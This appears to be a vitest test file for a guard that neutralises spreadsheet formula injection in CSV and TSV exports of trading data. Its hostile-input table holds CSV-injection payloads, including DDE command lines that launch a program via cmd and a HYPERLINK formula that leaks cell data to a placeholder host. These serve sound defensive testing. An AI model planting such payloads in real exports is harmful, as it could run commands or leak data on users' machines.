import { describe, expect, it } from 'vitest';
import { csvField, guardSpreadsheetText, isPlainNumber, tsvField } from '../../shared/spreadsheet-text.ts';

/**
 * Whether a spreadsheet could read any cell of `text` as a formula, however it splits the text
 * into cells (`,` `;` tab or a line break as the separator, as locales and paste settings do)
 * and whether or not it trims blanks and quotes first. Full-width and small forms count:
 * some spreadsheets take them for their ASCII triggers.
 */
function formulaCells(text: string): string[] {
  const found: string[] = [];
  for (const separator of [',', ';', '\t', '\n', '\r', /[,;\t\r\n]/]) {
    for (const cell of text.split(separator)) {
      const start = cell.replace(/^[\s"]+/, '');
      if (start === '' || isPlainNumber(start.trim())) continue;
      if (/^[=+\-@\u2212]/.test((start[0] ?? '').normalize('NFKC'))) found.push(cell);
    }
  }
  return found;
}

/** Provider text a spreadsheet would run, each with what the guard makes of it. */
const HOSTILE: [string, string, string][] = [
  ['a leading =', '=1+1', "'=1+1"],
  ['a leading +', '+1+1', "'+1+1"],
  ['a leading -', '-1+1', "'-1+1"],
  ['a leading @', '@SUM(A1:A9)', "'@SUM(A1:A9)"],
  ['a leading tab', '\t=1+1', "'\t'=1+1"],
  ['a leading CR', '\r=1+1', "'\r'=1+1"],
  ['a leading LF', '\n=1+1', "\n'=1+1"],
  ['blanks first', '  =1+1', "'  =1+1"],
  ['a no-break space first', '\u00a0+1', "'\u00a0+1"],
  ['a full-width space first', '\u3000=1', "'\u3000=1"],
  ['a quote first (a paste reads it as a quoted cell)', '"=1+1"', '\'"=1+1"'],
  ['a full-width =', '＝1+1', "'＝1+1"],
  ['a full-width +', '＋1', "'＋1"],
  ['a full-width -', '－1+1', "'－1+1"],
  ['a full-width @', '＠SUM(1+1)', "'＠SUM(1+1)"],
  ['a small-form =', '﹦1+1', "'﹦1+1"],
  ['a minus sign', '\u22121+1', "'\u22121+1"],
  ['a DDE payload', "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ['a DDE payload behind @SUM', "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
  ['a HYPERLINK leak', '=HYPERLINK("http://example.invalid/?x="&A1,"Click")', '\'=HYPERLINK("http://example.invalid/?x="&A1,"Click")'],
  ['a formula after ;', "ACME;=cmd|' /C calc'!A0", "ACME;'=cmd|' /C calc'!A0"],
  ['a formula after ,', 'ACME,=1+1', "ACME,'=1+1"],
  ['a formula after a tab', 'ACME\t@SUM(1)', "ACME\t'@SUM(1)"],
  ['a formula after a line break', 'two\n=1+1', "two\n'=1+1"],
  ['a formula after ; and blanks', 'ACME; +1+1', "ACME;' +1+1"],
  ['a full-width formula after ;', 'ACME;＝1+1', "ACME;'＝1+1"],
  ['a quoted formula after ;', 'ACME;"=1+1"', 'ACME;\'"=1+1"'],
  ['a formula at both ends', '=1;=2', "'=1;'=2"],
];

/** Text that must stay as it is: data a spreadsheet shows as typed (or reads as a number). */
const LEGITIMATE: [string, string][] = [
  ['an empty value', ''],
  ['a symbol', 'AAPL'],
  ['an option symbol', "AAPL Mar 19 '27 $47.50 Put"],
  ['a hyphen inside a word', 'Coca-Cola'],
  ['a negative number', '-1.25'],
  ['a negative integer', '-5'],
  ['a number', '1234.5'],
  ['a negative percentage', '-12.5%'],
  ['an exponent', '-1.5e-7'],
  ['a date', '2027-03-19'],
  ['a time stamp', '2026-06-10 09:30:00'],
  ['negative numbers after separators', '-1.25;-3,-4'],
  ['text with quotes', 'Apple, Inc. "Common"'],
  ['two lines', 'two\nlines'],
  ['an apostrophe first (already text)', "'=1+1"],
  ['an e-mail address', 'desk@example.invalid'],
  ['a sum in the middle', 'A+B'],
];

describe('guardSpreadsheetText', () => {
  it.each(HOSTILE)('neutralises %s', (_name, text, guarded) => {
    expect(formulaCells(text).length, 'the table entry must be hostile').toBeGreaterThan(0);
    expect(guardSpreadsheetText(text)).toBe(guarded);
    expect(formulaCells(guardSpreadsheetText(text))).toEqual([]);
  });

  it.each(LEGITIMATE)('leaves %s readable, as it is', (_name, text) => {
    expect(guardSpreadsheetText(text)).toBe(text);
  });

  it('puts an apostrophe before a value that starts with a tab or CR, which some importers drop', () => {
    expect(guardSpreadsheetText('\tACME')).toBe("'\tACME");
    expect(guardSpreadsheetText('\rACME')).toBe("'\rACME");
  });

  it('only ever adds apostrophes, so the text stays readable', () => {
    for (const [, text] of HOSTILE) expect(guardSpreadsheetText(text).replaceAll("'", '')).toBe(text.replaceAll("'", ''));
  });

  it('is idempotent', () => {
    for (const [, text] of [...HOSTILE.map(([, t]) => ['', t] as const), ...LEGITIMATE]) {
      expect(guardSpreadsheetText(guardSpreadsheetText(text))).toBe(guardSpreadsheetText(text));
    }
  });
});

describe('isPlainNumber: the only values with a leading minus that stay as they are', () => {
  it.each(['0', '-0', '-1.25', '1234.5', '-5', '-12.5%', '-1.5e-7', '2E10'])('%j is a number', (text) => {
    expect(isPlainNumber(text)).toBe(true);
  });
  it.each(['', '-', '-1+1', '--1', '-1.', '.5', '-1,25', '1 2', '-1e', '+1', '-0x10', '-Infinity', 'NaN', '-1%%', '１'])('%j is not', (text) => {
    expect(isPlainNumber(text)).toBe(false);
  });
});

describe('csvField', () => {
  it.each([
    [null, ''],
    ['', ''],
    ['KO', 'KO'],
    [0, '0'],
    [-1.25, '-1.25'],
    ['-1.25', '-1.25'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    [' padded ', '" padded "'],
  ])('writes %j as %j', (value, text) => {
    expect(csvField(value)).toBe(text);
  });

  it('quotes a field with a semicolon, so a `;`-separator locale keeps it one field', () => {
    expect(csvField("ACME;=cmd|' /C calc'!A0")).toBe("\"ACME;'=cmd|' /C calc'!A0\"");
    expect(csvField('a;b')).toBe('"a;b"');
  });

  it.each(HOSTILE)('writes %s as text', (_name, text) => {
    const field = csvField(text);
    const inner = field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field;
    expect(inner).toBe(guardSpreadsheetText(text));
    expect(formulaCells(inner)).toEqual([]);
  });
});

describe('tsvField', () => {
  it('turns tabs and line breaks into spaces, so no column shifts, then guards', () => {
    expect(tsvField('AAPL\tMar\r\n19 Call')).toBe('AAPL Mar 19 Call');
    expect(tsvField('ACME\t=1+1')).toBe('ACME =1+1');
    expect(tsvField('\t=1+1')).toBe("' =1+1");
  });

  it.each(HOSTILE)('writes %s as text', (_name, text) => {
    const field = tsvField(text);
    expect(field).not.toMatch(/[\t\r\n]/);
    expect(formulaCells(field)).toEqual([]);
  });

  it.each(LEGITIMATE.filter(([, text]) => !/[\t\r\n]/.test(text)))('leaves %s as it is', (_name, text) => {
    expect(tsvField(text)).toBe(text);
  });
});
